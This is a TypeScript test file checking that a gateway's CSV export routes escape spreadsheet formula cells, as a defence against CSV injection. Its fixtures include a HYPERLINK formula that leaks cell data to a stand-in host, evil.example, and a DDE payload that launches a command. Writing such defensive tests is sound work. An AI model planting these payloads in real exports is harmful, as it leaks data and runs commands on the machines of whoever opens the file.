/**
 * Every CSV route is safe to open in a spreadsheet (issue 8 point 5, OWASP "CSV Injection"): a text
 * cell beginning with = + - @ tab or CR gets a leading single quote; numbers the gateway produces stay
 * numbers, negative ones too. Each route is asked for CSV over real sources — a real dead-letter table
 * holding what a hostile device sent, the HQ routes over the zara01 scenario's bins, a declared stream
 * with a hostile dimension value and negative figures — and every cell is checked.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hqRoutes } from '../../src/http/routes/hq-routes.js';
import { hqStreamRoute } from '../../src/http/routes/hq-stream.js';
import { occupancyRoutes } from '../../src/http/routes/occupancy.js';
import { DeadLetterStore, deadLetterMigrations } from '../../src/ingest/dead-letter.js';
import { createRegistry } from '../../src/metrics.js';
import { openDatabase, type SqliteDatabase } from '../../src/store/database.js';
import { openStore, type StoreFixture } from '../aggregate/helpers.js';
import { buildScenario } from '../aggregate/scenario.js';
import { openStreams, type StreamsFixture, shelfLane, streamConfig } from '../aggregate/streams/helpers.js';
import { bearer, DEVICES, makeTestApp, type TestApp } from './helpers/app.js';
import { parseCsv } from './helpers/csv-parse.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const NOW = Date.parse('2026-03-30T12:00:00Z');

let db: SqliteDatabase;
let deadLetters: DeadLetterStore;
let aggregates: StoreFixture;
let streams: StreamsFixture;
let http: TestApp;

beforeAll(async () => {
  db = openDatabase(':memory:', deadLetterMigrations);
  deadLetters = new DeadLetterStore({ db, maxRows: 1000, sampleBytes: 256, metrics: createRegistry() });
  await deadLetters.start();
  // What a hostile device controls in a refusal: the topic (ACL refusals keep it), the detail that
  // quotes its values, and the payload sample.
  deadLetters.add({
    deviceId: 'shelf-01',
    kind: 'shelf',
    topic: HYPERLINK,
    reason: 'acl',
    detail: '@SUM(1+1)*cmd|" /C calc"!A0',
    payload: Buffer.from('-2+3+cmd'),
    receivedAt: NOW,
  });
  const scenario = buildScenario();
  aggregates = await openStore(scenario.config);
  for (const record of scenario.records) aggregates.store.writeBin(record);
  const config = streamConfig();
  streams = await openStreams(config, {}, NOW);
  const shelf = streams.store.declare(shelfLane);
  const values = { pickups: 2, put_backs: 0, items_min: -3, items_max: 9, items_end: -1, dwell_s: [4.5] };
  shelf.write([{ bin_start_ms: Date.parse('2026-03-28T08:00:00Z'), dims: { sku: '+SKU-1', lane: '0' }, values }]);
  http = await makeTestApp({
    devices: { list: () => [...DEVICES, { ...DEVICES[0], id: '-cam' } as (typeof DEVICES)[0]] },
    deadLetters,
    routes: [
      ...hqRoutes({
        aggregates: aggregates.store,
        config: scenario.config,
        database: aggregates.db.name,
        now: () => NOW,
      }),
      hqStreamRoute({ config, now: () => NOW }, shelf, { url: '/api/v1/shelves', summary: 'Shelf lanes' }),
      occupancyRoutes({ currentOccupancy: () => ({ ts: NOW, zones: [{ zone: 'entrance', kind: 'area', count: 2 }] }) }),
    ],
  });
});

afterAll(async () => {
  await http?.close();
  await streams?.close();
  await aggregates?.close();
  await deadLetters?.stop();
  db?.close();
});

const RANGE = 'from=2026-03-28&to=2026-03-30';

/** Route, and the cells (beyond the generic rule) the hostile or negative input must come out as. */
const ROUTES: [url: string, scope: 'admin' | 'hq', expected: string[]][] = [
  ['/api/v1/dead-letters?format=csv', 'admin', [`'${HYPERLINK}`, `'@SUM(1+1)*cmd|" /C calc"!A0`, "'-2+3+cmd"]],
  ['/api/v1/devices?format=csv', 'admin', ["'-cam"]],
  ['/api/v1/tokens?format=csv', 'admin', []],
  [`/api/v1/shelves?${RANGE}&bin=15min&format=csv`, 'hq', ["'+SKU-1", '-3', '-1']],
  [`/api/v1/footfall?${RANGE}&format=csv`, 'hq', []],
  [`/api/v1/zones/stats?${RANGE}&format=csv`, 'hq', []],
  [`/api/v1/paths/transitions?${RANGE}&format=csv`, 'hq', []],
  [`/api/v1/paths/top?${RANGE}&format=csv`, 'hq', []],
  [`/api/v1/heatmap?${RANGE}&format=csv`, 'hq', []],
  [`/api/v1/summary/daily?${RANGE}&bin=day&format=csv`, 'hq', []],
  ['/api/v1/occupancy?format=csv', 'hq', []],
];

/** A cell a spreadsheet would evaluate: a formula start that is not a plain number. */
const evaluates = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell));

describe('CSV routes neutralise formula cells', () => {
  it.each(ROUTES)('%s', async (url, scope, expected) => {
    const response = await http.app.inject({
      url,
      headers: bearer(scope === 'admin' ? http.tokens.admin : http.tokens.hq),
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [, ...rows] = parseCsv(response.body);
    expect(rows.length, 'the route answered rows to check').toBeGreaterThan(0);
    const cells = rows.flat();
    expect(cells.filter(evaluates)).toEqual([]);
    for (const cell of expected) expect(cells).toContain(cell);
  });
});
